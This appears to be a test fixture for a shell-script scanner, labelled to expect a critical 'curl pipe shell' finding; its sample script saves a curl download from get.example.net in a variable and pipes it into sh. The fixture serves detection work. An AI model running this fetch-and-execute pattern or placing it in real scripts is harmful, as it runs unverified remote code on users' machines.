# expect: shell.curl_pipe_shell critical
# note: a download kept in a variable, printed into a shell
# path: scripts/v.sh
#!/bin/sh
body=$(curl -fsSL https://get.example.net/i)
echo "$body" | sh
